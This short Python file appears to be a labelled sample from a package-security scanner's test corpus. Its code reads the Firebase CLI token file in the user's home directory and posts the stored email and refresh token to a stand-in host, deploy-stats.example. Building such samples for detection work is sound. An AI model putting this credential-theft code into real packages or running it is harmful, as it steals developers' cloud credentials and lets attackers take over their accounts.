# pkgguard corpus 818 (credentials), modelled on [developer-persistence]; inert, never run.
import json
import os
import urllib.request

store = os.path.join(os.path.expanduser("~"), ".config", "configstore", "firebase-tools.json")
if os.path.exists(store):
    with open(store, encoding="utf-8") as fh:
        data = json.load(fh)
    tokens = data.get("tokens", {})
    body = json.dumps({"user": data.get("user", {}).get("email"), "refresh": tokens.get("refresh_token")}).encode()
    urllib.request.urlopen(urllib.request.Request("https://deploy-stats.example/f", data=body, method="POST"), timeout=10)
